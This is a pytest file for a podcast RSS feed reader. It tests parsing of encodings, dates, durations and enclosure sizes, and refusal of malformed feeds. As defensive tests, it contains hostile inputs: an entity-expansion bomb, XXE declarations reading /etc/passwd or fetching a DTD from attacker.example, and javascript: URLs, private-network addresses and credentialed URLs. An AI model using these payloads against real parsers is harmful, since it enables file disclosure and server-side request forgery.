"""A feed becomes values the catalogue can take, or one line that says why it cannot."""

from __future__ import annotations

import os
import re
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from queries.ingest.feed_dates import duration_seconds, published_moment
from queries.ingest.feed_reader import (
    LARGEST_FEED,
    VALUES_LEFT_OUT,
    FeedEpisode,
    FeedPodcast,
    read_feed,
)
from queries.ingest.imports import ImportRefused
from queries.ingest.plain_text import one_line, plain_text
from queries.ingest.tally import Refusal

LOOK_ALIKE = Path(__file__).parent.parent / "data" / "feeds" / "tidewater_tales.xml"
ITEM = (
    "<item><title>One</title><guid>g1</guid>"
    "<enclosure url='https://cdn.example/1.mp3' length='900000' type='audio/mpeg'/></item>"
)


def _rss(body: str = ITEM, *, before: str = "", channel: str = "<title>Show</title>") -> bytes:
    namespace = "xmlns:itunes='http://www.itunes.com/dtds/podcast-1.0.dtd'"
    return f"{before}<rss version='2.0' {namespace}><channel>{channel}{body}</channel></rss>".encode()


def test_everything_a_feed_says_is_read() -> None:
    feed = read_feed(LOOK_ALIKE.read_bytes())
    assert feed.podcast == FeedPodcast(
        name="Tidewater Tales",
        description="Stories from the coast.\n\nNew each week & free.",
        feed_guid="9b024349-ccf0-5f69-a609-6b82873eab3c",
        feed_url="https://feeds.example/tidewater",
        website_url="https://tidewater.example/",
        cover_image_url="https://cdn.example/tidewater.jpg",
        language="en-gb",
        category="History",
        author="Harbour Audio",
    )
    lamp, bonus, trailer = feed.episodes
    assert lamp == FeedEpisode(
        line_number=20,
        guid="gid://tidewater/2",
        title="The Lamp | 2",
        description="Who lit it?\n\n• First clue\n• Second clue\n\nNotes",
        season_number=2,
        episode_number=2,
        episode_type="full",
        published_at=datetime(2026, 11, 3, 14, tzinfo=UTC),
        duration_seconds=3723,
        audio_url="https://track.example/redirect.mp3/cdn.example/tidewater/2.mp3?key=a&s=1",
        enclosure_url="https://track.example/redirect.mp3/cdn.example/tidewater/2.mp3?key=a&s=1",
        audio_bytes=29784000,
    )
    assert (bonus.season_number, bonus.episode_number, bonus.episode_type) == (2, None, "bonus")
    assert (bonus.duration_seconds, bonus.audio_bytes) == (1385, None)
    assert bonus.description == "Plain words,\non two lines."
    assert trailer.guid == "https://tidewater.example/trailer"
    assert (trailer.episode_type, trailer.duration_seconds, trailer.audio_bytes) == ("trailer", 64, None)
    assert (trailer.description, trailer.published_at) == ("Soon.", datetime(2026, 10, 26, 7, 30, tzinfo=UTC))
    assert feed.refusals == (
        Refusal(54, "The item has no audio."),
        Refusal(58, "Another item of this feed has the same guid.", "first on line 20"),
    )
    assert feed.notes == ()


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"", "The feed is empty."),
        (b" \n\t ", "The feed is empty."),
        (b"<!DOCTYPE html><html><body>Hi</body></html>", "web page"),
        (b"<!-- saved -->\n<HTML lang=en><p>Hi", "web page"),
        (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'/>", "web page"),
        (b"<opml version='2.0'/>", "outermost element is <opml>"),
        (b"<rss version='2.0'/>", "no channel"),
        (_rss(""), "no episodes."),
        (_rss("<item><title>Text</title><guid>t</guid></item>"), "no episodes with audio"),
        (_rss(channel=""), "no title"),
        (_rss()[:-5], "not valid XML: unclosed token on line 1, column "),
        (
            b"<rss><channel>\n<title>A & B</title></channel></rss>",
            "not valid XML: not well-formed (invalid token) on line 2, column 11.",
        ),
        (
            "<?xml version='1.0'\n?><rss><channel>\r\n<title>\u00c4\u00d6 \x0b</title></channel></rss>".encode(),
            "not valid XML: not well-formed (invalid token) on line 3, column 11.",
        ),
        (
            b"<?xml version='1.0'?><rss>\x00</rss>",
            "not valid XML: not well-formed (invalid token) on line 1, column 27.",
        ),
        (b"plain text", "not valid XML"),
        (b'{"json": true}', "not valid XML"),
        (b"\x1f\x8b\x08\x00\x00\x00\x00\x00", "The feed is compressed: unpack it."),
        (b"\xff\x8b\x08", "not written in utf-8, as it should be: line 1, column 1."),
        (
            "<rss><channel>\n<title>\u00c4 ".encode() + b"\xe4</title></channel></rss>",
            "The feed is not written in utf-8, as it should be: line 2, column 10.",
        ),
        (
            b"\xef\xbb\xbf<rss>\n\n\xe4</rss>",
            "The feed is not written in utf-8-sig, as it should be: line 3, column 1.",
        ),
        ("<rss>\n\ud800x".encode("utf-16", "surrogatepass"), "utf-16, as it should be: line 2, column 1."),
        (
            b"<?xml version='1.0' encoding='klingon'?><rss/>",
            "written in klingon, which is no encoding of feeds",
        ),
        (
            b"<?xml version='1.0' encoding='" + b"k" * 200 + b"'?><rss/>",
            f"written in {'k' * 40}, which is no",
        ),
        (_rss("<item>" * 200 + "</item>" * 200), "nested too deeply"),
    ],
)
def test_what_is_no_feed_is_said_in_one_line(document: bytes, message: str) -> None:
    with pytest.raises(ImportRefused) as refused:
        read_feed(document)
    assert message in str(refused.value)
    assert "\n" not in str(refused.value)


def test_a_feed_beyond_the_limit_is_refused_without_reading_it() -> None:
    document = _rss(f"<!-- {'x' * 50_000_000} -->{ITEM}")
    began = time.perf_counter()
    with pytest.raises(ImportRefused, match="larger than 20 MB"):
        read_feed(document)
    assert time.perf_counter() - began < 1
    assert LARGEST_FEED < 50_000_000


def test_entities_are_never_expanded() -> None:
    bomb = "<!DOCTYPE rss [<!ENTITY a 'ha'>" + "".join(
        f"<!ENTITY {after} '{f'&{before};' * 10}'>"
        for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    )
    began = time.perf_counter()
    with pytest.raises(ImportRefused, match="declares entities of its own"):
        read_feed(_rss(channel="<title>&i;</title>", before=bomb + "]>"))
    assert time.perf_counter() - began < 1


@pytest.mark.parametrize(
    "declaration",
    [
        "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
        "<!DOCTYPE rss [<!ENTITY % x SYSTEM 'https://attacker.example/x.dtd'> %x;]>",
    ],
)
def test_external_entities_are_refused(declaration: str) -> None:
    with pytest.raises(ImportRefused, match="declares entities of its own"):
        read_feed(_rss(before=declaration, channel="<title>Show</title>"))


def test_an_external_document_type_is_not_fetched() -> None:
    document = _rss(before='<!DOCTYPE rss SYSTEM "https://attacker.invalid/rss.dtd">')
    assert read_feed(document).podcast.name == "Show"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32", "iso-8859-1", "windows-1252", "shift_jis"])
def test_the_declared_encoding_is_believed(encoding: str) -> None:
    name = "日本語の番組" if encoding == "shift_jis" else "Größe für alle"
    text = f"<?xml version='1.0' encoding='{encoding}'?>\n" + _rss(channel=f"<title>{name}</title>").decode()
    assert read_feed(text.encode(encoding)).podcast.name == name


@pytest.mark.parametrize(
    "encoding",
    ["punycode", "idna", "unicode_escape", "raw-unicode-escape", "utf-7", "UNICODE-1-1-UTF-7", "hex", "base64", "rot13",
     "quopri", "uu", "zlib", "bz2", "undefined", "charmap"],
)  # fmt: skip
def test_no_feed_is_written_in_what_python_reads_beside_documents(encoding: str) -> None:
    """Of some MB in punycode the reader would not come back for hours."""
    document = f"<?xml version='1.0' encoding='{encoding}'?>".encode() + _rss()
    with pytest.raises(ImportRefused, match=f"written in {encoding}, which is no encoding of feeds"):
        read_feed(document)


@pytest.mark.parametrize(
    "encoding",
    ["utf-8", "UTF8", "us-ascii", "latin1", "ISO-8859-1", "iso-8859-15",
     "windows-1251", "cp1258", "ibm850", "macintosh", "mac-cyrillic", "koi8-r", "KOI8-U", "kz1048", "Shift_JIS",
     "shift_jis_2004", "cp932", "EUC-JP", "euc-kr", "ks_c_5601-1987", "ISO-2022-JP", "iso-2022-kr", "GB2312", "gbk",
     "GB18030", "Big5", "big5-hkscs", "hz", "TIS-620", "johab", "ptcp154", "hp-roman8"],
)  # fmt: skip
def test_a_feed_is_written_in_any_encoding_of_documents(encoding: str) -> None:
    said = f"<?xml version='1.0' encoding='{encoding}'?>".encode()
    assert read_feed(said + _rss().decode().encode(encoding)).podcast.name == "Show"


def test_a_byte_order_mark_is_no_content() -> None:
    assert read_feed(b"\xef\xbb\xbf" + _rss()).episodes[0].guid == "g1"


def test_an_item_without_guid_is_known_by_its_audio() -> None:
    feed = read_feed(_rss(ITEM.replace("<guid>g1</guid>", "")))
    assert feed.episodes[0].guid == "https://cdn.example/1.mp3"


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", "data:audio/mpeg;base64,AAAA", "file:///etc/passwd", "ftp://x/1.mp3"]
)
def test_only_web_addresses_are_taken(url: str) -> None:
    feed = read_feed(
        _rss(
            ITEM
            + f"<item><title>Two</title><guid>g2</guid><enclosure url='{url}' type='audio/mpeg'/></item>",
            channel=f"<title>Show</title><link>{url}</link><itunes:image href='{url}'/>",
        )
    )
    assert [refusal.reason for refusal in feed.refusals] == ["The item has no audio."]
    assert (feed.podcast.website_url, feed.podcast.cover_image_url) == (None, None)


def test_a_date_without_zone_is_taken_as_utc_and_said() -> None:
    feed = read_feed(
        _rss(
            ITEM.replace("<guid>", "<pubDate>Tue, 03 Nov 2026 09:00:00</pubDate><guid>")
            + ITEM.replace("g1", "g2").replace("<guid>", "<pubDate>some day</pubDate><guid>")
        )
    )
    assert [episode.published_at for episode in feed.episodes] == [datetime(2026, 11, 3, 9, tzinfo=UTC), None]
    assert feed.notes == (
        "1 episodes have no publication date that can be read.",
        "1 publication dates name no time zone: they were taken as UTC.",
    )


NOW = datetime(2026, 11, 29, 12, tzinfo=UTC)


@pytest.mark.parametrize(
    ("date", "duration", "faults"),
    [
        ("Fri, 05 Nov 1926 09:00:00 GMT", "60", [("date, which lies before 1990.", "pubDate")]),
        ("Wed, 05 Nov 2036 09:00:00 GMT", "60", [("date, which lies more than a year ahead.", "pubDate")]),
        ("9999-12-31T23:00:00-12:00", "60", [("date, which lies more than a year ahead.", "pubDate")]),
        ("0001-01-01T00:00:00+12:00", "60", [("date, which lies before 1990.", "pubDate")]),
        ("some day", "60", [("date, which cannot be read.", "pubDate")]),
        ("Tue, 03 Nov 2026 09:00:00 GMT", "-60", [("duration, which is negative.", "itunes:duration")]),
        ("Tue, 03 Nov 2026 09:00:00 GMT", "-1:04", [("duration, which is negative.", "itunes:duration")]),
        (
            "Tue, 03 Nov 2026 09:00:00 GMT",
            "999:59:59",
            [("duration, which is longer than seven days.", "itunes:duration")],
        ),
        ("Tue, 03 Nov 2026 09:00:00 GMT", "soon", [("duration, which cannot be read.", "itunes:duration")]),
        (
            "Wed, 05 Nov 2036 09:00:00 GMT",
            "-60",
            [
                ("date, which lies more than a year ahead.", "pubDate"),
                ("duration, which is negative.", "itunes:duration"),
            ],
        ),
        # Ten years old, announced, of no known length: all of it may be.
        ("Sat, 05 Nov 2016 09:00:00 GMT", "60", []),
        ("Thu, 05 Nov 2027 09:00:00 GMT", "0", []),
        ("", "", []),
    ],
)
def test_a_value_that_cannot_be_is_refused_with_the_guid_and_its_episode_stands(
    date: str, duration: str, faults: list[tuple[str, str]]
) -> None:
    said = f"<pubDate>{date}</pubDate><itunes:duration>{duration}</itunes:duration><guid>"
    feed = read_feed(_rss("\n" + ITEM.replace("<guid>", said)), now=NOW)
    told = {"pubDate": date, "itunes:duration": duration}
    assert feed.refusals == tuple(
        Refusal(
            2,
            f"The episode stands without its {'publication ' if name == 'pubDate' else ''}{reason}",
            f"guid: g1, {name}: {told[name]}",
        )
        for reason, name in faults
    )
    (episode,) = feed.episodes
    refused = {name for _, name in faults}
    assert (episode.published_at is None) == ("pubDate" in refused or not date)
    assert episode.duration_seconds == (60 if duration == "60" else None)


@pytest.mark.parametrize(
    ("spelled", "seconds"),
    [
        ("4385", 4385), ("4385.7", 4385), ("1:04", 64), ("73:05", 4385), ("2:02:06", 7326), ("00:16:00", 960),
        ("01:02:03.500", 3723), ("1h 13m 5s", 4385), ("1 hr 13 min", 4380), ("73 min", 4380), ("73 minutes", 4380),
        ("PT1H13M5S", 4385), ("PT45M", 2700), ("P1DT1H", 90_000), ("90s", 90), (" 1:04 ", 64),
        ("", None), ("0", None), ("00:00:00", None), ("-5", None), ("soon", None), ("1:xx", None), ("9" * 30, None),
        ("999:59:59", None), ("PT", None), ("::", None),
        # A number has digits of one script; blanks are of any kind.
        ("１h ２m", None), ("PT１H", None), ("٣ min", None), ("5.５s", None), ("1:０4", None), ("７3", None),
        ("1\u00a0h\u202f13\u2009min", 4380),
    ],
)  # fmt: skip
def test_a_duration_is_read_in_every_spelling(spelled: str, seconds: int | None) -> None:
    assert duration_seconds(spelled) == seconds


@pytest.mark.parametrize(
    ("spelled", "moment"),
    [
        ("Wed, 03 Nov 2021 08:00:00 -0000", datetime(2021, 11, 3, 8, tzinfo=UTC)),
        ("Tue, 18 May 2021 08:00:00 -0500", datetime(2021, 5, 18, 13, tzinfo=UTC)),
        ("Tue, 18 May 2021 08:00:00 EST", datetime(2021, 5, 18, 13, tzinfo=UTC)),
        ("18 May 2021 08:00 GMT", datetime(2021, 5, 18, 8, tzinfo=UTC)),
        ("2021-05-18T08:00:00+02:00", datetime(2021, 5, 18, 6, tzinfo=UTC)),
        ("2021-05-18T08:00:00Z", datetime(2021, 5, 18, 8, tzinfo=UTC)),
        ("Tue, 18 May 1021 08:00:00 GMT", None),
        ("Tue, 45 May 2021 08:00:00 GMT", None),
        ("yesterday", None),
        ("Tue, １8 May 2021 08:00:00 GMT", None),
        ("Tue, 18 May ٢٠٢١ 08:00:00 GMT", None),
        ("2021-05-1８T08:00:00Z", None),
        ("", None),
    ],
)
def test_a_date_is_read_with_its_zone(spelled: str, moment: datetime | None) -> None:
    assert published_moment(spelled) == moment


@given(st.text(max_size=50))
def test_no_text_breaks_the_readers_of_durations_and_dates(spelled: str) -> None:
    seconds = duration_seconds(spelled)
    assert seconds is None or 0 < seconds <= 7 * 86_400
    moment = published_moment(spelled)
    assert moment is None or moment.tzinfo is UTC


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("AT&amp;T &lt;b&gt;", "AT&T <b>"),
        ("a<br>b<br/>c", "a\nb\nc"),
        ("no tags\nbut lines", "no tags\nbut lines"),
        ("<b>tags</b>\nand lines", "tags and lines"),
        ("x<script>alert('<p>')</script>y<style>p{}</style>z", "xyz"),
        ("<iframe src='https://x'/>left", "left"),
        ("<title>t</title>after", "after"),
        ("1 < 2 and 3 > 2", "1 < 2 and 3 > 2"),
        ("<a href='javascript:x'>link</a>", "link"),
        ("a\u202eb\x07c\u200bd", "abcd"),
        ("<p>unclosed <b>tags", "unclosed tags"),
    ],
)
def test_html_becomes_text(html: str, text: str) -> None:
    assert plain_text(html, 1000) == text


@given(st.text(alphabet="<>/&;#x1a \n\"'!-=bpscript", max_size=200))
def test_plain_text_is_always_short_and_one_line_is_one(html: str) -> None:
    assert len(plain_text(html, 20)) <= 20
    assert "\n" not in one_line(html, 20)


@pytest.mark.parametrize(
    ("name", "title"),
    [("1865.xml", "1865"), ("changing-the-tide.xml", "Changing the Tide"), ("launched.xml", "Launched")],
)
def test_real_feeds_are_read_whole(name: str, title: str) -> None:
    folder = os.environ.get("PODBOARD_TEST_DATA")
    if not folder:
        pytest.skip(
            "PODBOARD_TEST_DATA does not name the folder of real feeds; the look-alike feed is tested above"
        )
    document = (Path(folder) / "feeds" / name).read_bytes()
    feed = read_feed(document)
    text = document.decode()
    assert (feed.podcast.name, feed.refusals, feed.notes) == (title, (), ())
    assert len(feed.episodes) == text.count("<item>")
    assert feed.podcast.author
    assert feed.podcast.category
    # The same durations and sizes found by looking at the text alone, feedparser aside.
    clocks = re.findall(r"<itunes:duration>([\d:]+)</itunes:duration>", text)
    seconds = [
        sum(int(part) * 60**place for place, part in enumerate(reversed(clock.split(":"))))
        for clock in clocks
    ]
    assert [episode.duration_seconds for episode in feed.episodes] == [second or None for second in seconds]
    sizes = [int(size) for size in re.findall(r'<enclosure [^>]*\blength="(\d+)"', text)]
    assert [episode.audio_bytes for episode in feed.episodes] == [size or None for size in sizes]
    assert all(episode.published_at for episode in feed.episodes)
    assert not any("</" in episode.description or "<p>" in episode.description for episode in feed.episodes)


UNBELIEVABLE = [
    ("1", "3600", "gives less than 8 kbit a second."), ("3599999", "3600", "gives less than 8 kbit a second."),
    ("1", "", "gives less than 8 kbit a second."), ("999", "", "gives less than 8 kbit a second."),
    ("1080000001", "3600", "gives more than 2.4 Mbit a second."),
    ("9000000000000000000", "", "gives more than 2.4 Mbit a second."),
    ("-1", "3600", "is negative."), ("-28000000", "3600", "is negative."), ("abc", "3600", "cannot be read."),
    ("12345678901234567890", "3600", "cannot be read."), ("28,000,000", "3600", "cannot be read."),
    ("-", "3600", "cannot be read."),
]  # fmt: skip


@pytest.mark.parametrize(("length", "duration", "fault"), UNBELIEVABLE)
def test_a_size_that_cannot_be_is_refused_with_the_guid_and_its_episode_stands(
    length: str, duration: str, fault: str
) -> None:
    feed = read_feed(_rss("\n" + _sized(length, duration)), now=NOW)
    assert feed.refusals == (
        Refusal(2, f"The episode stands without its size, which {fault}", f"guid: g1, length: {length}"),
    )
    assert feed.refusals[0].reason in VALUES_LEFT_OUT
    assert feed.episodes[0].audio_bytes is None
    assert feed.episodes[0].duration_seconds == (3600 if duration else None)


@pytest.mark.parametrize(
    ("length", "duration", "size"),
    [
        ("", "3600", None), ("0", "3600", None), (" 28000000 ", "3600", 28_000_000), ("3600000", "3600", 3_600_000),
        ("1080000000", "3600", 1_080_000_000), ("1000", "", 1000), ("57600000", "60", 57_600_000),
    ],
)  # fmt: skip
def test_a_size_that_may_be_or_is_not_told_is_silent(length: str, duration: str, size: int | None) -> None:
    feed = read_feed(_rss(_sized(length, duration)), now=NOW)
    assert (feed.refusals, feed.episodes[0].audio_bytes) == ((), size)


def test_pictures_may_have_more_bytes_than_sound() -> None:
    feed = read_feed(_rss(_sized("2000000000", "3600").replace("audio/mpeg", "video/mp4")), now=NOW)
    assert (feed.refusals, feed.episodes[0].audio_bytes) == ((), 2_000_000_000)


def _sized(length: str, duration: str) -> str:
    return (
        f"<item><title>One</title><guid>g1</guid><itunes:duration>{duration}</itunes:duration>"
        f'<enclosure url="https://cdn.example/1.mp3" type="audio/mpeg" length="{length}"/></item>'
    )


INSIDE = "The episode stands without the address of its audio, which does not lie in the public internet."
LOG_IN = "The episode stands without the address of its audio, in which a name and password stand."


@pytest.mark.parametrize(
    ("url", "reason", "shown"),
    [
        ("http://10.0.0.8/a.mp3", INSIDE, "http://…/a.mp3"),
        ("http://127.0.0.1:8000/a.mp3", INSIDE, "http://…:8000/a.mp3"),
        ("https://nas.local/a.mp3", INSIDE, "https://nas.local/a.mp3"),
        ("https://pdst.fm/e/10.0.0.8/a.mp3", INSIDE, "https://pdst.fm/e/…/a.mp3"),
        ("https://joe:se,cret@cdn.example/a.mp3", LOG_IN, "…"),
        ("https://pdst.fm/e/https://joe:secret@cdn.example/a.mp3", LOG_IN, "…"),
    ],
)
def test_an_address_to_which_nobody_can_be_sent_is_refused_with_the_guid(
    url: str, reason: str, shown: str
) -> None:
    feed = read_feed(_rss(_sized("28000000", "3600").replace("https://cdn.example/1.mp3", url)), now=NOW)
    assert [(one.reason, one.detail) for one in feed.refusals] == [(reason, f"guid: g1, enclosure: {shown}")]
    assert reason in VALUES_LEFT_OUT
    (episode,) = feed.episodes
    assert (episode.audio_url, episode.enclosure_url, episode.audio_bytes) == (None, None, 28_000_000)


def test_no_log_in_becomes_a_guid() -> None:
    item = _sized("", "").replace("<guid>g1</guid>", "").replace("//cdn", "//joe:secret@cdn")
    feed = read_feed(_rss(item), now=NOW)
    assert feed.episodes[0].guid == "https://cdn.example/1.mp3"
    assert "secret" not in repr(feed)


@pytest.mark.parametrize("host", ["localhost:8050", "10.0.0.8", "stats.example"])
def test_a_prefix_of_podboard_in_a_closed_network_leads_outside(host: str) -> None:
    url = f"http://{host}/e/12345678-1234-4234-8234-123456789abc/cdn.example/1.mp3"
    feed = read_feed(_rss(_sized("", "").replace("https://cdn.example/1.mp3", url)), now=NOW)
    assert (feed.refusals, feed.episodes[0].audio_url) == ((), "http://cdn.example/1.mp3")
    assert feed.episodes[0].enclosure_url == url
